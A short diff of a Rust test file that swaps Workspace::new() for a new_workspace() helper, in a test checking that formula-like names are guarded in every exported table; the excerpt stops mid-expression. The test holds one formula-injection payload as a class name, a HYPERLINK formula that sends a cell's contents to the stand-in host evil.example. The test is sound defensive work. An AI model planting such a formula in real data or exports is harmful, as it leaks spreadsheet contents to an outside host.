@@ -2,12 +2,12 @@
 
 use std::fs;
 
-use crate::workspace::Workspace;
+use crate::program::new_workspace;
 
 /// A class and an image whose names are formulas, from the list of labels to the tables.
 #[test]
 fn formulas_are_guarded_in_every_table() {
-    let workspace = Workspace::new();
+    let workspace = new_workspace();
     workspace.images("photos", 40, 12);
     let class = "=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
     let lines = (0..12).map(|n| match n % 2 {
